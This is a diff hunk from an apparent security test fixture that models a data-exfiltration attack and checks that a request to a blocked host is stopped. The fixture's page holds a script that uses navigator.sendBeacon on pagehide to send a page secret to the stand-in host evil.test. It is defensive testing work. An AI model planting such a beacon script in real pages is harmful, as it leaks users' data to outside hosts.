@@ -12,7 +12,7 @@ ATTACK = {
     "risk": "exfiltration",
     "references": ["ATT&CK T1041", "W3C Beacon"],
     "arrives": [{"what": "request", "name": "evil.test", "path": "/beacon"}],
-    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"]}],
+    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
     "page": "<h1>Bye</h1><script>addEventListener('pagehide', () => "
     "navigator.sendBeacon('http://evil.test/beacon', 'secret-of-the-"
     "page'))</script><p>Open http://allowed.test/ now.</p>",
